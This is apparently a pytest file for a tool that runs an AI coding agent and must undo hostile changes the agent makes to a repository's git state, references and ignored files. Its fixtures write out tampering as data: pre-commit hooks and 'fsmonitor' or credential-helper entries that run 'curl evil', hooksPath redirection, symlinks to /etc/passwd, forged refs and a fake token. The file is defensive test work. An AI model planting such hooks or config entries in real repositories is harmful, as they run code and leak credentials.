"""Hostile agents, class 3b: git state, references and ignored files. Whatever the agent does to what git runs or
sees (.git/config and its includes, config.worktree, hooks, info/, refs/replace, grafts, alternates, shallow,
.git/gitmem/, the global config files), the runner puts it back before it runs anything and says so in Evidence;
whatever it does to references, the branch ends at the cycle's start (plus its own work) and nothing is lost;
and only paths that were not ignored when the cycle started are committed, on success and on salvage."""
from __future__ import annotations

import json
import os
import shutil
from pathlib import Path

import pygit2
import pytest

from gitmem.errors import ExitCode
from tests.support.cycle_support import file_at, is_clean
from tests.support.gitcli import git
from tests.support.helpers import GitRepo
from tests.support.hostile import cycle, evidence, nest


def _git_dir(repo: GitRepo) -> Path:
    return Path(repo.repo.path)


def _append(path: Path, text: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("a", encoding="utf-8") as handle:
        handle.write(text)


# (what the agent does inside .git, the file that must be back as it was, its label in Evidence)
GIT_STATE = {
    "hook": (lambda g: (_append(g / "hooks" / "pre-commit", "#!/bin/sh\ncurl evil\n"),
                        os.chmod(g / "hooks" / "pre-commit", 0o755)), "hooks/pre-commit"),
    "hooks-path": (lambda g: _append(g / "config", "[core]\n\thooksPath = /tmp/evil-hooks\n"), "config"),
    "include": (lambda g: _append(g / "config", "[include]\n\tpath = ../evil.cfg\n"), "config"),
    "fsmonitor": (lambda g: _append(g / "config", "[core]\n\tfsmonitor = curl evil\n"), "config"),
    "config-worktree": (lambda g: _append(g / "config.worktree", "[core]\n\tsshCommand = evil\n"),
                        "config.worktree"),
    "exclude": (lambda g: _append(g / "info" / "exclude", "*.py\n"), "info/exclude"),
    "attributes": (lambda g: _append(g / "info" / "attributes", "* filter=evil\n"), "info/attributes"),
    "grafts": (lambda g: _append(g / "info" / "grafts", "0" * 40 + "\n"), "info/grafts"),
    "alternates": (lambda g: _append(g / "objects" / "info" / "alternates", "/tmp/evil-objects\n"),
                   "objects/info/alternates"),
    "shallow": (lambda g: _append(g / "shallow", "0" * 40 + "\n"), "shallow"),
    "commit-graph": (lambda g: _append(g / "objects" / "info" / "commit-graph", "CGPH forged parents"),
                     "objects/info/commit-graph"),
    "commit-graph-chain": (lambda g: _append(g / "objects" / "info" / "commit-graphs" / "commit-graph-chain",
                                             "0" * 40 + "\n"), "objects/info/commit-graphs"),
    "state-dir": (lambda g: _append(g / "gitmem" / "confirmations.json.evil", "{}\n"), "gitmem/"),
    "hooks-dir-link": (lambda g: (__import__("shutil").rmtree(g / "hooks"), os.symlink("/tmp", g / "hooks")),
                       "hooks"),
}


@pytest.mark.parametrize("kind", sorted(GIT_STATE))
def test_git_state_the_agent_changes_is_put_back_and_reported(memrepo: GitRepo, kind: str) -> None:
    gitdir = _git_dir(memrepo)
    (gitdir / "gitmem").mkdir(exist_ok=True)
    before = _snapshot(gitdir)
    act, label = GIT_STATE[kind]
    report = cycle(memrepo, lambda root, memory, request: act(gitdir))
    assert report.exit_code == ExitCode.OK, report.error
    after = _snapshot(gitdir)
    assert {k: v for k, v in after.items() if not k.startswith("gitmem/")} == \
           {k: v for k, v in before.items() if not k.startswith("gitmem/")}
    assert "restored git state the agent changed" in evidence(memrepo)
    assert f".git/{label}" in evidence(memrepo)
    assert not (gitdir / "hooks").is_symlink()


def _snapshot(gitdir: Path) -> dict[str, bytes]:
    found: dict[str, bytes] = {}
    for name in ("config", "config.worktree", "hooks", "info", "objects/info", "shallow", "gitmem"):
        path = gitdir / name
        if path.is_file():
            found[name] = path.read_bytes()
        elif path.is_dir() and not path.is_symlink():
            for item in path.rglob("*"):
                if item.is_file() and item.name not in ("cycle.lock", "lines.json"):
                    found[item.relative_to(gitdir).as_posix()] = item.read_bytes()
    return found


def test_the_agents_versions_are_kept_aside_for_the_human(memrepo: GitRepo) -> None:
    gitdir = _git_dir(memrepo)
    cycle(memrepo, lambda root, memory, request: _append(gitdir / "hooks" / "pre-commit", "curl evil\n"))
    kept = gitdir / "gitmem" / "guard" / "cycle-1" / ".git__hooks__pre-commit"
    assert kept.read_text() == "curl evil\n"
    assert not (gitdir / "hooks" / "pre-commit").exists()


def test_a_forged_confirmation_cache_does_not_survive(memrepo: GitRepo) -> None:
    cache = _git_dir(memrepo) / "gitmem" / "confirmations.json"
    forged = json.dumps({"x": {"commit": "0", "ok": True}})
    report = cycle(memrepo, lambda root, memory, request: _append(cache, forged))
    assert not cache.exists()
    # A cache file put back is routine (the agent's gitmem commands refresh caches): nothing reads like a fault.
    assert not [m for m in report.messages if "cache" in m] and "restored" not in evidence(memrepo)


def test_a_cache_the_agent_turns_into_a_link_is_reported(memrepo: GitRepo) -> None:
    cache = _git_dir(memrepo) / "gitmem" / "confirmations.json"
    cache.parent.mkdir(exist_ok=True)
    report = cycle(memrepo, lambda root, memory, request: os.symlink("/dev/null", cache))
    assert not cache.is_symlink()
    assert "restored git state the agent changed: .git/gitmem/confirmations.json (added)" in evidence(memrepo)
    assert any("confirmations.json" in m for m in report.messages)


def test_the_global_config_and_ignore_file_are_put_back(memrepo: GitRepo, tmp_path: Path,
                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    home = tmp_path / "home"
    ignore = home / "ignore"
    config = home / "gitconfig"
    _append(ignore, ".env\n")
    _append(config, f"[core]\n\texcludesFile = {ignore}\n")
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(config))
    memrepo.repo.config["core.excludesFile"] = str(ignore)      # libgit2 reads its global config once per process
    memrepo.write(".env", "TOKEN=mine\n")

    def act(root: Path, memory, request) -> None:
        ignore.write_text("")
        _append(config, "[credential]\n\thelper = !curl evil\n")

    report = cycle(memrepo, act)
    assert report.exit_code == ExitCode.OK
    assert ignore.read_text() == ".env\n"
    assert "credential" not in config.read_text()
    assert file_at(memrepo.repo, "HEAD", ".env") is None
    assert memrepo.read(".env") == "TOKEN=mine\n"
    assert "ignore (changed)" in evidence(memrepo) and "gitconfig (changed)" in evidence(memrepo)


# -- ignored files ------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("fail", [None, "the model went away"], ids=["success", "salvage"])
def test_a_file_ignored_at_start_is_never_committed_nor_deleted(memrepo: GitRepo, fail: str | None) -> None:
    memrepo.commit_files({".gitignore": ".env\nbuild/\n"}, "ignore secrets")
    memrepo.write(".env", "API=mine\n")
    memrepo.write("build/out.bin", "artifact\n")

    def act(root: Path, memory, request) -> None:
        (root / ".gitignore").write_text("")
        (root / "work.txt").write_text("agent work\n")

    report = cycle(memrepo, act, fail=fail)
    for branch in ("HEAD", report.salvage_branch, report.proposal_branch):
        if branch:
            assert file_at(memrepo.repo, branch, ".env") is None
            assert file_at(memrepo.repo, branch, "build/out.bin") is None
    assert memrepo.read(".env") == "API=mine\n" and memrepo.read("build/out.bin") == "artifact\n"
    assert memrepo.read(".gitignore") == ".env\nbuild/\n"
    assert is_clean(memrepo)


def test_a_force_staged_ignored_file_is_not_committed(memrepo: GitRepo) -> None:
    memrepo.commit_files({".gitignore": ".env\n"}, "ignore")
    memrepo.write(".env", "API=mine\n")
    report = cycle(memrepo, lambda root, memory, request: git(root, "add", "-f", ".env"))
    assert report.exit_code == ExitCode.OK
    assert file_at(memrepo.repo, "HEAD", ".env") is None and memrepo.read(".env") == "API=mine\n"


# -- references ---------------------------------------------------------------------------------------------------

def test_the_agent_deleting_its_own_branch_is_salvaged_onto_a_recreated_branch(memrepo: GitRepo) -> None:
    start = memrepo.head()

    def act(root: Path, memory, request) -> None:
        (root / "work.txt").write_text("agent work\n")
        git(root, "update-ref", "-d", "refs/heads/main")

    report = cycle(memrepo, act)
    assert report.exit_code == ExitCode.SALVAGED
    assert not memrepo.repo.head_is_unborn
    head = memrepo.repo.head.peel(pygit2.Commit)
    assert [str(p) for p in head.parent_ids] == [start]                  # main: start + the no-build commit
    assert file_at(memrepo.repo, report.salvage_branch, "work.txt") == "agent work\n"
    assert is_clean(memrepo)


def test_the_agent_moving_its_branch_elsewhere_loses_nothing(memrepo: GitRepo) -> None:
    start = memrepo.head()

    def act(root: Path, memory, request) -> None:
        git(root, "checkout", "-q", "--orphan", "evil")
        git(root, "commit", "-q", "--allow-empty", "-m", "unrelated")
        git(root, "branch", "-f", "main", "evil")
        git(root, "checkout", "-q", "main")

    report = cycle(memrepo, act)
    assert report.exit_code == ExitCode.SALVAGED
    assert [str(p) for p in memrepo.repo.head.peel(pygit2.Commit).parent_ids] == [start]
    assert any(name.startswith("refs/heads/gitmem/local/cycle-1") for name in memrepo.repo.references)


def test_the_agent_switching_branches_is_salvaged_and_head_comes_back(memrepo: GitRepo) -> None:
    report = cycle(memrepo, lambda root, memory, request: git(root, "checkout", "-q", "-b", "elsewhere"))
    assert report.exit_code == ExitCode.SALVAGED
    assert memrepo.repo.head.shorthand == "main"


@pytest.mark.parametrize("action,ref", [
    (["branch", "-D", "human-work"], "refs/heads/human-work"),
    (["tag", "-f", "v1", "HEAD~1"], "refs/tags/v1"),
    (["update-ref", "-d", "refs/tags/v1"], "refs/tags/v1"),
    (["update-ref", "refs/remotes/origin/main", "HEAD~1"], "refs/remotes/origin/main"),
])
def test_other_references_the_agent_moves_or_deletes_are_restored(memrepo: GitRepo, action: list[str],
                                                                   ref: str) -> None:
    memrepo.commit_files({"a.txt": "a\n"}, "second commit")
    git(memrepo.path, "branch", "human-work")
    git(memrepo.path, "tag", "v1")
    before = {name: str(memrepo.repo.references[name].target) for name in memrepo.repo.references}
    cycle(memrepo, lambda root, memory, request: git(root, *action))
    after = {name: str(memrepo.repo.references[name].target) for name in memrepo.repo.references}
    assert after.get(ref) == before.get(ref)


def test_replace_refs_the_agent_creates_are_removed(memrepo: GitRepo) -> None:
    def act(root: Path, memory, request) -> None:
        git(root, "replace", "HEAD", git(root, "commit-tree", "-m", "forged", "HEAD^{tree}").strip())

    report = cycle(memrepo, act)
    assert report.exit_code == ExitCode.OK
    assert not [name for name in memrepo.repo.references if name.startswith("refs/replace/")]
    assert "removed refs/replace/" in evidence(memrepo)


def test_an_index_trick_hides_nothing(memrepo: GitRepo) -> None:
    def act(root: Path, memory, request) -> None:
        (root / "ROADMAP.md").write_text("agent's roadmap\n")
        git(root, "update-index", "--skip-worktree", "ROADMAP.md")

    cycle(memrepo, act)
    assert file_at(memrepo.repo, "HEAD", "ROADMAP.md") == "agent's roadmap\n"
    assert is_clean(memrepo)


def test_a_corrupt_index_left_by_the_agent_is_rebuilt(memrepo: GitRepo) -> None:
    def act(root: Path, memory, request) -> None:
        (root / "work.txt").write_text("agent work\n")
        (_git_dir(memrepo) / "index").write_bytes(b"garbage" * 10)

    report = cycle(memrepo, act)
    assert report.exit_code == ExitCode.OK, report.error
    assert file_at(memrepo.repo, "HEAD", "work.txt") == "agent work\n" and is_clean(memrepo)


@pytest.mark.parametrize("lock", ["index.lock", "HEAD.lock", "refs/heads/main.lock", "packed-refs.lock",
                                  "refs/heads/dir.lock/"])
def test_git_lock_files_the_agent_leaves_are_removed_and_its_work_committed(memrepo: GitRepo, lock: str) -> None:
    """A lock file the agent leaves (by hand, or from a git it killed) made the runner delete the index and exit 2,
    its work neither committed nor salvaged."""
    gitdir = _git_dir(memrepo)

    def act(root: Path, memory, request) -> None:
        (root / "work.txt").write_text("agent work\n")
        planted = gitdir / lock.rstrip("/")
        if lock.endswith("/"):
            planted.mkdir(parents=True)
        else:
            planted.write_bytes(b"")

    report = cycle(memrepo, act)
    assert report.exit_code == ExitCode.OK, report.error
    assert file_at(memrepo.repo, "HEAD", "work.txt") == "agent work\n" and is_clean(memrepo)
    assert not os.path.lexists(gitdir / lock.rstrip("/")) and (gitdir / "index").is_file()
    assert f"removed git lock files the agent left: .git/{lock.rstrip('/')}" in evidence(memrepo)


def test_a_git_lock_there_before_the_cycle_refuses_it_with_gm740_and_changes_nothing(memrepo: GitRepo) -> None:
    from gitmem.cycle.runner import CycleRefused

    gitdir, start = _git_dir(memrepo), memrepo.head()
    (gitdir / "index.lock").write_bytes(b"")
    ran: list[bool] = []
    with pytest.raises(CycleRefused) as refused:
        cycle(memrepo, lambda root, memory, request: ran.append(True))
    assert refused.value.exit_code == ExitCode.DIRTY and refused.value.code.code == "GM740"
    assert ".git/index.lock" in str(refused.value) and "rm .git/index.lock" in str(refused.value)
    assert not ran and memrepo.head() == start
    assert (gitdir / "index.lock").is_file() and (gitdir / "index").is_file()     # the human's git's, left alone
    (gitdir / "index.lock").unlink()
    assert is_clean(memrepo)


def test_folders_nested_past_the_recursion_limit_in_the_state_folder_are_removed(memrepo: GitRepo) -> None:
    """`.git/gitmem/` is the agent's to write, inside the box too: 1,100 nested folders there ended the cycle
    with a RecursionError traceback (exit 70), its work neither committed nor salvaged."""
    def act(root: Path, memory, request) -> None:
        (root / "work.txt").write_text("agent work\n")
        nest(_git_dir(memrepo) / "gitmem" / "deep", 1100)

    report = cycle(memrepo, act)
    assert report.exit_code == ExitCode.OK, report.error
    assert file_at(memrepo.repo, "HEAD", "work.txt") == "agent work\n" and is_clean(memrepo)
    assert not (_git_dir(memrepo) / "gitmem" / "deep").exists()
    assert ".git/gitmem/deep (added)" in evidence(memrepo)


def test_a_hooks_path_inside_the_tree_is_protected(memrepo: GitRepo) -> None:
    memrepo.commit_files({"tools/hooks/pre-commit": "#!/bin/sh\ngitmem check\n"}, "hooks in the tree")
    memrepo.repo.config["core.hooksPath"] = "tools/hooks"
    report = cycle(memrepo, lambda root, memory, request: (root / "tools/hooks/pre-commit").write_text("evil\n"))
    assert file_at(memrepo.repo, "HEAD", "tools/hooks/pre-commit") == "#!/bin/sh\ngitmem check\n"
    assert file_at(memrepo.repo, report.proposal_branch, "tools/hooks/pre-commit") == "evil\n"


def test_a_ref_name_that_looks_like_a_key_is_not_repeated(memrepo: GitRepo) -> None:
    key = "ghp_" + "a1B2c3D4e5F6" * 3
    report = cycle(memrepo, lambda root, memory, request: git(root, "update-ref", f"refs/evil/{key}", "HEAD"))
    assert report.exit_code == ExitCode.OK
    assert key not in " ".join(report.messages) + evidence(memrepo)
    assert not [name for name in memrepo.repo.references if name.startswith("refs/evil/")]


# -- the state snapshot itself, on plain folders ------------------------------------------------------------------

def _state(tmp_path: Path):
    from gitmem.cycle.gitstate import FileState
    from gitmem.gitio import StatePath

    root = tmp_path / "state"
    (root / "sub").mkdir(parents=True)
    (root / "sub" / "hook").write_text("#!/bin/sh\n")
    os.chmod(root / "sub" / "hook", 0o755)
    (root / "big.bin").write_bytes(b"b" * (2 << 20))
    (root / "plain").write_text("plain\n")
    os.symlink("plain", root / "link")
    places = [StatePath("state", root, True), StatePath("absent", tmp_path / "absent", False)]
    return root, FileState.capture(places)


def _plant_fifo(root: Path) -> None:
    os.mkfifo(root / "fifo")


ATTACKS = {
    "big-file-changed": lambda root, tmp: (root / "big.bin").write_bytes(b"evil" * 10),
    "folder-became-file": lambda root, tmp: (__import__("shutil").rmtree(root / "sub"),
                                             (root / "sub").write_text("x")),
    "file-became-folder": lambda root, tmp: ((root / "plain").unlink(), (root / "plain").mkdir(),
                                             (root / "plain" / "x").write_text("x")),
    "link-retargeted": lambda root, tmp: ((root / "link").unlink(), os.symlink("/etc/passwd", root / "link")),
    "new-tree": lambda root, tmp: ((root / "new" / "deep").mkdir(parents=True),
                                   (root / "new" / "deep" / "f").write_text("x")),
    "fifo-planted": lambda root, tmp: _plant_fifo(root),
    "file-deleted": lambda root, tmp: (root / "sub" / "hook").unlink(),
    "mode-changed": lambda root, tmp: os.chmod(root / "sub" / "hook", 0o644),
    "absent-created": lambda root, tmp: (tmp / "absent").write_text("now here\n"),
    "root-became-link": lambda root, tmp: (__import__("shutil").rmtree(root), os.symlink(tmp, root)),
}


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_every_kind_of_change_to_a_state_folder_is_undone(tmp_path: Path, attack: str) -> None:
    root, state = _state(tmp_path)
    before = {p.relative_to(root).as_posix(): (p.is_symlink(), p.read_bytes() if p.is_file() and not p.is_symlink()
                                                else None, p.stat(follow_symlinks=False).st_mode)
              for p in root.rglob("*")}
    ATTACKS[attack](root, tmp_path)
    changes = state.restore()
    assert changes, attack
    after = {p.relative_to(root).as_posix(): (p.is_symlink(), p.read_bytes() if p.is_file() and not p.is_symlink()
                                               else None, p.stat(follow_symlinks=False).st_mode)
             for p in root.rglob("*")}
    assert after == before
    assert not (tmp_path / "absent").exists()
    assert not root.is_symlink()


def _deep_place(tmp_path: Path, *, base: bool):
    """A captured file two folders deep (`git/modules/sub/config`); `base` says whether it lies in a git directory
    the guard may repair."""
    from gitmem.cycle.gitstate import FileState
    from gitmem.gitio import StatePath

    top = tmp_path / "git"
    config = top / "modules" / "sub" / "config"
    config.parent.mkdir(parents=True)
    config.write_text("captured\n")
    place = StatePath("git/modules/sub/config", config, base, top if base else None)
    other = tmp_path / "elsewhere"
    (other / "sub").mkdir(parents=True)
    (other / "sub" / "config").write_text("someone else's\n")
    return top, other, FileState.capture([place])


def test_a_link_put_where_a_folder_of_the_git_directory_was_is_taken_away_never_written_through(
        tmp_path: Path) -> None:
    top, other, state = _deep_place(tmp_path, base=True)
    shutil.rmtree(top / "modules")
    os.symlink(other, top / "modules")

    changes = state.restore()

    assert (other / "sub" / "config").read_text() == "someone else's\n"
    assert sorted(p.name for p in other.rglob("*")) == ["config", "sub"]
    assert not (top / "modules").is_symlink() and (top / "modules" / "sub" / "config").read_text() == "captured\n"
    link = next(c for c in changes if c.label == "git/modules")
    assert (link.what, link.found, link.aside) == ("changed", "link", f"symlink to {other}\n".encode())


def test_a_folder_the_agent_moved_out_and_linked_is_moved_back_whole(tmp_path: Path) -> None:
    top, _, state = _deep_place(tmp_path, base=True)
    (top / "modules" / "objects").mkdir()
    (top / "modules" / "objects" / "pack").write_text("not captured, kept\n")
    moved = tmp_path / "moved"
    (top / "modules").rename(moved)
    os.symlink(moved, top / "modules")
    (moved / "sub" / "config").write_text("the agent's\n")

    state.restore()

    assert not os.path.lexists(moved)
    assert (top / "modules" / "objects" / "pack").read_text() == "not captured, kept\n"
    assert (top / "modules" / "sub" / "config").read_text() == "captured\n"


def test_a_link_put_where_a_folder_outside_every_git_directory_was_is_left_alone_and_reported(
        tmp_path: Path) -> None:
    top, other, state = _deep_place(tmp_path, base=False)
    shutil.rmtree(top / "modules")
    os.symlink(other, top / "modules")

    changes = state.restore()

    assert (other / "sub" / "config").read_text() == "someone else's\n"
    assert (top / "modules").is_symlink()
    assert [(c.label, c.what) for c in changes] == [
        ("git/modules/sub/config", "changed, not put back: the folder git/modules is now a link")]


RESTORE_AS_OWNER = """
import json, os, sys
from pathlib import Path
from gitmem.cycle.gitstate import FileState
from gitmem.gitio import StatePath
top = Path(sys.argv[1])
state = FileState.capture([StatePath(".git/gitmem", top, True, top.parent)])
for folder in ("deep", "deep/er"):                 # what the agent plants, then makes read-only
    (top / folder).mkdir()
    (top / folder / "conftest.py").write_text("import os\\n", encoding="utf-8")
for folder in ("deep/er", "deep"):
    os.chmod(top / folder, 0o555)
print(json.dumps([[change.label, change.what] for change in state.restore()]))
"""


@pytest.mark.skipif(os.geteuid() == 0 and shutil.which("setpriv") is None, reason="root, and no setpriv to drop it")
def test_a_read_only_folder_the_agent_plants_in_the_state_folder_is_removed_whole(tmp_path: Path) -> None:
    """A folder the agent made read-only under `.git/gitmem` (writable in the box) kept the conftest.py in it
    ("could not be put back: Permission denied"), where pytest goes when a project's settings send it into `.git/`.
    Run as an unprivileged owner: no mode stops root."""
    import subprocess
    import sys
    import tempfile

    from gitmem.confined.walk import remove_tree
    from tests.support.nobody import NOBODY

    place = Path(tempfile.mkdtemp(prefix="gitmem-state-"))
    try:
        place.chmod(0o777)
        top = place / "gitmem"
        top.mkdir()
        (top / "keep").write_text("the runner's\n", encoding="utf-8")
        top.chmod(0o777)
        (top / "keep").chmod(0o666)
        prefix = NOBODY if os.geteuid() == 0 else []
        done = subprocess.run([*prefix, sys.executable, "-c", RESTORE_AS_OWNER, str(top)], capture_output=True,
                              text=True, timeout=60, cwd=place)
        assert done.returncode == 0, done.stderr
        assert json.loads(done.stdout) == [[".git/gitmem/deep", "added"]]
        assert sorted(path.name for path in top.iterdir()) == ["keep"]
    finally:
        for folder, dirs, _ in os.walk(place):
            for name in dirs:
                os.chmod(os.path.join(folder, name), 0o755)
        remove_tree(place)
